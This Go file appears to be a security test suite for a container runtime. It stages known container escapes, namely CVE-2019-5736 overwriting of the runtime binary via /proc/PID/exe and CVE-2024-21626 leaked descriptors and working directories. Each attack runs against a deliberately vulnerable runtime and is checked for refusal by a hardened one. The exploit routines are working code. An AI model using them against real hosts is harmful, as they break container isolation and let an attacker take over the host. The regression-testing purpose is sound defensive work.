package attacks

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// This room has the attacks on the runtime itself: the file of its program, its open descriptors, its memory.

func init() {
	exhibits = append(exhibits,
		exhibit{
			class: "runtime's program overwritten through /proc/PID/exe", known: "CVE-2019-5736", weak: "a runtime that runs a file of the host in the container",
			attack: func(m *museum, weak bool) outcome {
				if weak {
					return overwriteNaive(m)
				}
				// The process 1 of --init is the program that set the container up: the only part of gcr that is
				// ever in a container together with the attacker.
				return m.gcr([]string{"--init"}, "exe", "1")
			},
			refusal: "memfd:.* sealed",
		},
		exhibit{
			class: "command is /proc/self/exe", known: "CVE-2019-5736", weak: "a runtime that runs a file of the host in the container",
			attack: func(m *museum, weak bool) outcome {
				m.must(os.Symlink("/proc/self/exe", m.rootfs+"/again"))
				if weak {
					// The naive runtime becomes itself, a file of the host, inside of the container.
					return m.naive("again", m.rootfs)
				}
				m.must(os.Rename(m.rootfs+"/museum", m.rootfs+"/other"))
				m.must(os.Symlink("/proc/self/exe", m.rootfs+"/museum"))
				return m.gcr(nil, "uid0")
			},
			// The container's program starts once more, has no socket to the host side, and ends.
			refusal: "exit status 125",
		},
		exhibit{
			class: "descriptor of a host directory left open", known: "CVE-2024-21626, CVE-2016-9962", weak: "a runtime that hands on what it has",
			attack: func(m *museum, weak bool) outcome {
				m.leak()
				if weak {
					return m.naive("chroot", m.rootfs, "fds")
				}
				return m.gcr(nil, "fds")
			},
			refusal: "no descriptor",
		},
		exhibit{
			class: "working directory outside", known: "CVE-2024-21626", weak: "a runtime that does not look where chdir led",
			attack: func(m *museum, weak bool) outcome {
				m.leak()
				if weak {
					return m.naive("cwd", m.rootfs, "/proc/self/fd/3")
				}
				var last outcome
				for fd := range 16 {
					if last = m.gcr([]string{"-w", fmt.Sprintf("/proc/self/fd/%d", fd)}, "secret", "secret"); last.worked {
						return last
					}
				}
				return last
			},
			refusal: "change to directory|secret: no such file",
		},
		exhibit{
			class: "half-built container read by its neighbours", known: "CVE-2016-9962 and kin", weak: "a runtime that is dumpable when it joins a namespace",
			needs:   needsUserNamespaces,
			attack:  halfBuilt,
			refusal: "permission denied|not permitted",
		},
	)

	attackers["exe"] = func(a []string) outcome {
		link := "/proc/" + a[0] + "/exe"
		name, err := os.Readlink(link)
		if err != nil {
			return refused("%v", err)
		}
		// A descriptor taken while the program runs can be opened again for writing once it has ended: what a
		// file system allows then is asked of the file itself.
		f, err := os.Open(link)
		if err != nil {
			return refused("%v", err)
		}
		seals, err := unix.FcntlInt(f.Fd(), unix.F_GET_SEALS, 0)
		if err != nil {
			return worked("%s is a file of the host: %v", name, err)
		}
		const all = unix.F_SEAL_SEAL | unix.F_SEAL_SHRINK | unix.F_SEAL_GROW | unix.F_SEAL_WRITE
		if seals&all != all {
			return worked("%s has seals %#x only", name, seals)
		}
		w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_RDWR, 0)
		if err == nil {
			_, err = w.Write([]byte("#!/evil"))
		}
		if err == nil {
			return worked("wrote to %s", name)
		}
		return refused("%s is sealed: %v", name, errors.Unwrap(err))
	}
	attackers["fds"] = func([]string) outcome {
		for fd := 3; fd < 256; fd++ {
			if f, err := unix.Openat(fd, "secret", unix.O_RDONLY, 0); err == nil {
				return worked("descriptor %d leads to %s of the host", fd, readLink(f))
			}
		}
		return refused("no descriptor leads to the host")
	}
	// overwrite is the attacker of CVE-2019-5736: it waits for a process that is not the container's own, takes
	// hold of its program, and writes to it when it has ended.
	attackers["overwrite"] = func([]string) outcome {
		own, err := os.Stat("/museum")
		if err != nil {
			return refused("%v", err)
		}
		fmt.Println("ready") // the attacker is in place
		for {
			all, _ := filepath.Glob("/proc/[0-9]*/exe")
			for _, link := range all {
				f, err := os.Open(link)
				if err != nil {
					continue
				}
				info, err := f.Stat()
				if err != nil || os.SameFile(info, own) {
					f.Close()
					continue
				}
				for {
					w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_TRUNC, 0)
					if errors.Is(err, unix.ETXTBSY) {
						time.Sleep(time.Millisecond)
						continue
					}
					if err != nil {
						return refused("%v", err)
					}
					if _, err := w.WriteString("#!/evil"); err != nil {
						return refused("%v", err)
					}
					return worked("wrote to the runtime's program")
				}
			}
			time.Sleep(time.Millisecond)
		}
	}

	naives["cwd"] = func(a []string) outcome {
		private()
		if err := errors.Join(os.MkdirAll(a[0]+"/proc", 0o755), unix.Mount("proc", a[0]+"/proc", "proc", 0, ""), unix.Chroot(a[0]), unix.Chdir(a[1])); err != nil {
			return refused("%v", err)
		}
		return readSecret("secret")
	}
	naives["again"] = func(a []string) outcome {
		private()
		if err := errors.Join(os.MkdirAll(a[0]+"/proc", 0o755), unix.Mount("proc", a[0]+"/proc", "proc", 0, ""), unix.Chroot(a[0]), unix.Chdir("/")); err != nil {
			return refused("%v", err)
		}
		return refused("execve: %v", unix.Exec("/again", []string{"/again", "naive", "itself"}, nil))
	}
	naives["itself"] = func([]string) outcome {
		name, err := os.Readlink("/proc/self/exe")
		if err != nil {
			return refused("%v", err)
		}
		mine, err := os.Stat("/museum")
		if err != nil {
			return refused("%v", err)
		}
		f, err := os.Stat("/proc/self/exe")
		if err != nil || os.SameFile(f, mine) {
			return refused("this is a file of the container: %v", err)
		}
		return worked("%s of the host runs in the container", filepath.Base(name))
	}
	// visit is how a naive runtime puts one more process into a container: its own program joins, does a little
	// work, and would become the command.
	naives["visit"] = func(a []string) outcome {
		pid, _ := strconv.Atoi(a[0])
		self, err := os.Executable()
		if err != nil {
			return refused("%v", err)
		}
		runtime.LockOSThread()
		ns, err := unix.Open(fmt.Sprintf("/proc/%d/ns/pid", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return refused("%v", err)
		}
		if err := unix.Setns(ns, unix.CLONE_NEWPID); err != nil {
			return refused("setns: %v", err)
		}
		out, err := exec.Command(self, "naive", "work").CombinedOutput()
		return refused("%s %v", out, err)
	}
	naives["work"] = func([]string) outcome {
		time.Sleep(200 * time.Millisecond)
		return refused("done")
	}
	attackers["peek"] = func(a []string) outcome {
		all, err := filepath.Glob("/proc/" + a[0] + "/fd/*")
		if err != nil || len(all) == 0 {
			_, err := os.ReadDir("/proc/" + a[0] + "/fd")
			return refused("%v", err)
		}
		var last error
		for _, link := range all {
			if b, err := os.ReadFile(link + "/secret"); err == nil && string(b) == secret {
				return worked("%s leads to the host", link)
			}
			// That a descriptor is there may be seen by its owner; what it is may not.
			var name string
			if name, last = os.Readlink(link); last == nil {
				return worked("%s is %s", link, name)
			}
		}
		return refused("%v", last)
	}
}

func readLink(fd int) string {
	name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	return filepath.Base(name)
}

// leak opens a directory of the host, the way a runtime's caller may have left one open.
func (m *museum) leak() {
	f, err := os.Open(m.outside)
	m.must(err)
	m.t.Cleanup(func() { f.Close() })
	m.extra = []*os.File{f}
}

// overwriteNaive shows CVE-2019-5736: an attacker waits in a container which the naive runtime then enters with a
// copy of its own program.
func overwriteNaive(m *museum) outcome {
	self, err := os.Executable()
	m.must(err)
	copied := filepath.Join(m.outside, "runtime")
	m.must(copyFile(self, copied, 0o755))
	attacker := exec.Command(self, "naive", "chroot", m.rootfs, "overwrite")
	attacker.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWPID}
	out, err := attacker.StdoutPipe()
	m.must(err)
	m.must(attacker.Start())
	defer func() { _ = attacker.Process.Kill(); _ = attacker.Wait() }()
	line := make([]byte, 64)
	n, err := out.Read(line)
	m.must(err)
	if !strings.HasPrefix(string(line[:n]), "ready") {
		return refused("the attacker did not start: %s", line[:n])
	}
	_ = exec.Command(copied, "naive", "visit", strconv.Itoa(attacker.Process.Pid)).Run()
	n, _ = out.Read(line)
	b, err := os.ReadFile(copied)
	m.must(err)
	if string(b) != "#!/evil" {
		return refused("%s", line[:n])
	}
	return worked("the runtime's program on the host is now %q", b)
}
